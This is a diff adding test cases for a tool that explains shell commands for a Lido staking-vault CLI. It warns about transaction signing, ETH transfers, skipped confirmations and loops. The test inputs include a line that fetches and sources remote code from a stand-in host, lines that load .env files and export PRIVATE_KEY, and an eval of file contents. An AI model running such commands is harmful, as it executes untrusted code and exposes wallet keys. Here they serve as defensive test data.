@@ -170,6 +170,164 @@ test.each<[string, ...string[]]>([
     'This cannot be undone.',
     'Does not ask before it signs, as `--yes` answers every question with yes.',
   ],
+  [
+    'docker exec -it box lsv-cli vo w fund 10 -y',
+    'other',
+    '`docker` is not lsv-cli, and not explained here. What it may run is explained after it.',
+    'signs',
+    'ETH sent along: the amount you give.',
+    'Does not ask before it signs, as `--yes` answers every question with yes.',
+  ],
+  [
+    'docker run --rm -e CHAIN_ID=1 lido/lsv:latest vo w fund 10',
+    'other',
+    '`docker` is not lsv-cli, and not explained here. What it may run is explained after it.',
+    'That is Ethereum mainnet. These pages are about Hoodi.',
+    'signs',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    "tmux new -d 'yarn start report w submit-all'",
+    'other',
+    '`tmux` is not lsv-cli, and not explained here. What it may run is explained after it.',
+    'signs',
+    'Signs without a question.',
+  ],
+  [
+    'find . -exec yarn start vo w fund 1 \\; -print',
+    'other',
+    '`find` is not lsv-cli, and not explained here. What it may run is explained after it.',
+    'signs',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    'for v in 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d358 "$OTHER"; do lsv-cli vo w fund 1 -v $v; done',
+    'shell',
+    'the letter case does not match the EIP-55 checksum; if all digits are correct, write 0xfB6916095Ca1df60bb79cE92Ce3ea74C37c5d358',
+    'signs',
+    '`for` runs it again and again: whatever it sends is sent each time.',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    'while read v; do yarn start vo r roles -v $v; done < vaults.txt',
+    'shell',
+    'reads',
+    'shell',
+    'Takes its input from `vaults.txt`, answers to questions included.',
+  ],
+  [
+    'until yarn start vo w fund 1 -y; do sleep 5; done; yarn start report w submit',
+    'signs',
+    '`until` runs it again and again: whatever it sends is sent each time.',
+    'ETH sent along: the amount you give.',
+    'Does not ask before it signs, as `--yes` answers every question with yes.',
+    'shell',
+    'signs',
+  ],
+  [
+    '0 3 * * * cd /app && yarn start report w submit -y\nyarn start report w submit',
+    'shell',
+    'signs',
+    '`cron` runs it again and again: whatever it sends is sent each time.',
+    'Does not ask before it signs, as `--yes` answers every question with yes.',
+    'signs',
+  ],
+  [
+    'env $(cat .env) lsv-cli vo w fund 1',
+    'signs',
+    'What another command prints is put in here.',
+    'ETH sent along: the amount you give.',
+    'shell',
+  ],
+  [
+    'source .env && export PRIVATE_KEY && yarn start vo w fund 1',
+    'shell',
+    'Runs the commands in the file `.env`, which are not explained here.',
+    'sets',
+    'signs',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    'source <(curl -s x.example)',
+    'other',
+    '`source` is not lsv-cli, and not explained here. Do not run what you do not know.',
+    'other',
+    '`curl` is not lsv-cli, and not explained here. Do not run what you do not know.',
+  ],
+  [
+    "PRIVATE_KEY='<key>' ACCOUNT_FILE=wallet.json yarn start vo w fund 1",
+    'signs',
+    'ETH sent along: the amount you give.',
+    'PRIVATE_KEY and ACCOUNT_FILE cannot be combined; remove one of them',
+  ],
+  [
+    'sudo -u op lsv-cli vo w fund 1',
+    'signs',
+    'Runs as the user `op`.',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    "ssh op@node <<'END'\nyarn start vo w fund 1\nEND\nyarn start vo r roles",
+    'other',
+    '`ssh` is not lsv-cli, and not explained here. Do not run what you do not know.',
+    "Takes its input from `<<'END'`, answers to questions included.",
+    'signs',
+    'ETH sent along: the amount you give.',
+    'reads',
+  ],
+  [
+    'xargs -n1 yarn start vo w fund 1 -v',
+    'signs',
+    '`xargs` adds words from its input, which are not explained here.',
+    'ETH sent along: the amount you give.',
+  ],
+  [
+    'eval "$(cat lines.txt)"',
+    'other',
+    '`$(cat lines.txt)` is not lsv-cli, and not explained here. Do not run what you do not know.',
+    'shell',
+  ],
+  [
+    'echo "$(yarn start vo w fund 1 -y)"',
+    'shell',
+    'What another command prints is put in here.',
+    'signs',
+    'ETH sent along: the amount you give.',
+    'Does not ask before it signs, as `--yes` answers every question with yes.',
+  ],
+  [
+    'yarn start VO w fund 1',
+    'signs',
+    'ETH sent along: the amount you give.',
+    'unknown command "VO"; did you mean "vo w fund 1"?',
+    '= yarn start vo w fund 1',
+  ],
+  [
+    'yarn start vo w create-vault create -ce 1d',
+    'signs',
+    'ETH sent along: 1 ETH for each vault.',
+    '--confirmExpiry of vo write create-vault create: "1d" is not an integer; expected a number of seconds',
+  ],
 ])('%j is answered whole', (line, ...answer) => {
   expect(answerTo(line)).toEqual(answer)
+})
+
+test.each([
+  ['CHAIN_ID=560048 sudo lsv-cli vo r info', true],
+  ['CHAIN_ID=560048 ssh op@node lsv-cli vo r info', true],
+  ['CHAIN_ID=560048 sudo -E lsv-cli vo r info', false],
+  ['sudo CHAIN_ID=560048 lsv-cli vo r info', false],
+])('whether a variable of %s is dropped on the way is told: %s', (line, isDropped) => {
+  const [command] = explainText(line, lido).commands
+  const variable = command?.parts.find(({ kind }) => kind === 'variable')
+  const said = 'The program after it does not pass it on, unless it is told to.'
+  expect(variable?.remarks.some(({ text }) => text === said)).toBe(isDropped)
+  expect(command?.needed.some(({ title }) => title === '`CHAIN_ID`')).toBe(isDropped)
+})
+
+test('a part of the shell is said to sign nothing, unless it begins something or puts something in', () => {
+  const said = (line: string) => explainText(line, lido).commands[0]?.remarks.map(({ tone }) => tone)
+  expect(said('cd cli')).toEqual(['good'])
+  expect(said('while true; do lsv-cli vo w fund 1; done')).toEqual([])
+  expect(said('echo $(lsv-cli vo w fund 1)')).toEqual(['danger'])
 })
